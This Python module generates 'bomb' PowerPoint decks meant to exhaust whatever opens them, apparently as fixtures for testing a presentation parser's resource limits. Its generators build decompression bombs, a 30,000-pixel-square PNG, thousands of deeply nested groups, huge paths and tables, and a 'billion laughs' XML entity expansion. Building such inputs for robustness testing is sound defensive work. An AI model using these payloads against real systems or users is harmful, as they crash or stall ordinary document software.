"""Decks made to exhaust whoever opens them: small files with huge contents."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_P = "http://schemas.openxmlformats.org/presentationml/2006/main"
_A = "http://schemas.openxmlformats.org/drawingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SPACES = f'xmlns:p="{_P}" xmlns:a="{_A}" xmlns:r="{_R}"'
_OPEN = "application/vnd.openxmlformats-officedocument.presentationml"
_BOX = '<p:spPr><a:xfrm><a:off x="9" y="9"/><a:ext cx="999999" cy="999999"/></a:xfrm>{}</p:spPr>'
_RECT = '<a:prstGeom prst="rect"/><a:solidFill><a:srgbClr val="FF0000"/></a:solidFill>'
_NAME = '<p:cNvPr id="{0}" name="n"/>'
_THEME = (
    f'<a:theme xmlns:a="{_A}"><a:themeElements><a:clrScheme name="x"/><a:fontScheme name="x"/>'
    '<a:fmtScheme name="x"/></a:themeElements></a:theme>'
)
_COLOURS = {
    "bg1": "lt1", "tx1": "dk1", "bg2": "lt2", "tx2": "dk2", "hlink": "hlink", "folHlink": "folHlink",
    **{f"accent{number}": f"accent{number}" for number in range(1, 7)},
}  # fmt: skip
_TREE = f"<p:nvGrpSpPr>{_NAME.format(1)}<p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>"


def deck(
    body: str,
    media: dict[str, bytes] | None = None,
    *,
    size: tuple[int, int] = (9144000, 6858000),
    more: dict[str, bytes] | None = None,
    links: str = "",
    level: int = 6,
) -> bytes:
    """Return a deck of one slide whose tree of shapes holds `body`; `rId9` and on name the media.

    `links` are more relationships of the slide, `more` more members, `level` how hard to compress.
    """
    names = list(media or {})
    pictures = "".join(
        f'<Relationship Id="rId{9 + n}" Type="{_KIND}/image" Target="../media/{name}"/>'
        for n, name in enumerate(names)
    )
    slide = f"<p:cSld><p:spTree>{_TREE}{body}</p:spTree></p:cSld>"
    parts = {
        "[Content_Types].xml": _types(names),
        "ppt/presentation.xml": _PRESENTATION.format(*size),
        "ppt/slides/slide1.xml": f"<p:sld {_SPACES}>{slide}</p:sld>",
        "ppt/slides/_rels/slide1.xml.rels": _relations(
            ("slideLayout", "../slideLayouts/slideLayout1.xml"), more=pictures + links
        ),
        **_FRAME,
    }
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        for name, content in (media or {}).items():
            archive.writestr(f"ppt/media/{name}", content)
        for name, content in (more or {}).items():
            archive.writestr(name, content)
    return stream.getvalue()


def _types(media: list[str]) -> str:
    endings = {name.rpartition(".")[2]: "image" for name in media}
    defaults = "".join(
        f'<Default Extension="{ending}" ContentType="{kind}/{ending}"/>'
        for ending, kind in sorted(endings.items())
    )
    overrides = "".join(
        f'<Override PartName="{name}" ContentType="{kind}"/>' for name, kind in _OVERRIDES.items()
    )
    return (
        f'<Types xmlns="{_TYPES}"><Default Extension="rels" ContentType="{_RELS_KIND}"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{defaults}{overrides}</Types>'
    )


def _relations(*targets: tuple[str, str], more: str = "") -> str:
    inside = "".join(
        f'<Relationship Id="rId{number}" Type="{_KIND}/{kind}" Target="{target}"/>'
        for number, (kind, target) in enumerate(targets, 1)
    )
    return f'<Relationships xmlns="{_RELATIONS}">{inside}{more}</Relationships>'


_RELS_KIND = "application/vnd.openxmlformats-package.relationships+xml"
_OVERRIDES = {
    "/ppt/presentation.xml": f"{_OPEN}.presentation.main+xml",
    "/ppt/slides/slide1.xml": f"{_OPEN}.slide+xml",
    "/ppt/slideLayouts/slideLayout1.xml": f"{_OPEN}.slideLayout+xml",
    "/ppt/slideMasters/slideMaster1.xml": f"{_OPEN}.slideMaster+xml",
    "/ppt/theme/theme1.xml": "application/vnd.openxmlformats-officedocument.theme+xml",
}
_PRESENTATION = (
    f'<p:presentation {_SPACES}><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rId2"/>'
    '</p:sldMasterIdLst><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst>'
    '<p:sldSz cx="{}" cy="{}"/></p:presentation>'
)
_EMPTY = f"<p:cSld><p:spTree>{_TREE}</p:spTree></p:cSld>"
_MAPPED = "".join(f' {name}="{value}"' for name, value in _COLOURS.items())
_FRAME = {
    "_rels/.rels": _relations(("officeDocument", "ppt/presentation.xml")),
    "ppt/_rels/presentation.xml.rels": _relations(
        ("slide", "slides/slide1.xml"), ("slideMaster", "slideMasters/slideMaster1.xml")
    ),
    "ppt/slideLayouts/slideLayout1.xml": f"<p:sldLayout {_SPACES}>{_EMPTY}</p:sldLayout>",
    "ppt/slideLayouts/_rels/slideLayout1.xml.rels": _relations(
        ("slideMaster", "../slideMasters/slideMaster1.xml")
    ),
    "ppt/slideMasters/slideMaster1.xml": f"<p:sldMaster {_SPACES}>{_EMPTY}<p:clrMap{_MAPPED}/>"
    '<p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst>'
    "</p:sldMaster>",
    "ppt/slideMasters/_rels/slideMaster1.xml.rels": _relations(
        ("slideLayout", "../slideLayouts/slideLayout1.xml"), ("theme", "../theme/theme1.xml")
    ),
    "ppt/theme/theme1.xml": _THEME,
}
"""Everything of a deck but its slide."""


def shape(words: str = "", number: int = 2) -> str:
    """Return a rectangle, with words if there are any."""
    text = f"<p:txBody><a:bodyPr/>{words}</p:txBody>" if words else ""
    name = _NAME.format(number)
    head = f"<p:nvSpPr>{name}<p:cNvSpPr/><p:nvPr/></p:nvSpPr>"
    return f"<p:sp>{head}{_BOX.format(_RECT)}{text}</p:sp>"


def picture() -> str:
    """Return a picture that shows `rId9`."""
    head = f"<p:nvPicPr>{_NAME.format(3)}<p:cNvPicPr/><p:nvPr/></p:nvPicPr>"
    fill = '<p:blipFill><a:blip r:embed="rId9"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>'
    box = _BOX.format('<a:prstGeom prst="rect"/>')
    return f"<p:pic>{head}{fill}{box}</p:pic>"


def png(width: int, height: int) -> bytes:
    """Return a whole picture of one grey; rows of the same bytes pack a thousand times."""
    packer = zlib.compressobj(9)
    row = b"\0" + bytes(-(-width // 8))
    rows = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        for kind, body in ((b"IHDR", head), (b"IDAT", rows), (b"IEND", b""))
    )


def _paragraph(words: str) -> str:
    return f"<a:p><a:r><a:rPr/><a:t>{words}</a:t></a:r></a:p>"


def _groups(depth: int) -> str:
    head = (
        f"<p:grpSp><p:nvGrpSpPr>{_NAME.format(4)}<p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>"
    )
    return head * depth + shape() + "</p:grpSp>" * depth


def _path(points: int) -> str:
    lines = "".join(f'<a:lnTo><a:pt x="{n % 997}" y="{n % 991}"/></a:lnTo>' for n in range(points))
    geometry = f'<a:custGeom><a:pathLst><a:path w="1000" h="1000"><a:moveTo><a:pt x="0" y="0"/></a:moveTo>{lines}</a:path></a:pathLst></a:custGeom>'
    return shape().replace('<a:prstGeom prst="rect"/>', geometry)


def _table(rows: int, columns: int) -> str:
    cell = f"<a:tc><a:txBody><a:bodyPr/>{_paragraph('x')}</a:txBody><a:tcPr/></a:tc>"
    grid = '<a:gridCol w="9999"/>' * columns
    body = f'<a:tr h="9999">{cell * columns}</a:tr>' * rows
    head = (
        f"<p:nvGraphicFramePr>{_NAME.format(5)}<p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr>"
    )
    place = '<p:xfrm><a:off x="0" y="0"/><a:ext cx="9144000" cy="6858000"/></p:xfrm>'
    data = f'<a:graphicData uri="{_A.replace("main", "table")}"><a:tbl><a:tblGrid>{grid}</a:tblGrid>{body}</a:tbl></a:graphicData>'
    return f"<p:graphicFrame>{head}{place}<a:graphic>{data}</a:graphic></p:graphicFrame>"


def _zeros() -> bytes:
    stream = io.BytesIO(deck(shape()))
    with (
        zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("ppt/zeros.xml", "w", force_zip64=True) as out,
    ):
        for _ in range(2048):
            out.write(bytes(1 << 20))
    return stream.getvalue()


def _entities() -> bytes:
    laughs = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    plain = deck(shape(_paragraph("BOMB")))
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain)) as old, zipfile.ZipFile(stream, "w") as new:
        for info in old.infolist():
            part = old.read(info)
            if info.filename == "ppt/slides/slide1.xml":
                part = laughs.encode() + b"]>" + part.replace(b"BOMB", b"&i;")
            new.writestr(info.filename, part)
    return stream.getvalue()


BOMBS: dict[str, Callable[[], bytes]] = {
    "30,000 x 30,000 pixels in one PNG": lambda: deck(picture(), {"a.png": png(30_000, 30_000)}),
    "2 GiB of zeros": _zeros,
    "400,000 shapes": lambda: deck(shape() * 400_000),
    "12,000 shapes on a slide": lambda: deck(shape() * 12_000, level=0),
    "groups 5,000 deep": lambda: deck(_groups(5_000)),
    "groups 120 deep": lambda: deck(_groups(120)),
    "9 MB of words in one run": lambda: deck(shape(_paragraph("bom " * 2_250_000))),
    "190,000 letters on a slide": lambda: deck(shape(_paragraph("bom " * 47_500))),
    "20,000 paragraphs": lambda: deck(shape(_paragraph("bom") * 20_000)),
    "a word of 190,000 letters": lambda: deck(shape(_paragraph("x" * 190_000))),
    "a path of 70,000 points": lambda: deck(_path(70_000)),
    "a table of 100 x 180": lambda: deck(_table(100, 180)),
    "a slide 1 EMU wide and 2,000 km high": lambda: deck(shape(), size=(1, 2_147_483_647)),
    "ten thousand and one members": lambda: deck(
        shape(), more={f"x/{number}": b"" for number in range(10_001)}
    ),
    "entities that multiply": _entities,
}  # fmt: skip


def bombs() -> Iterator[tuple[str, bytes]]:
    """Yield every bomb with its name."""
    for name, make in BOMBS.items():
        yield name, make()
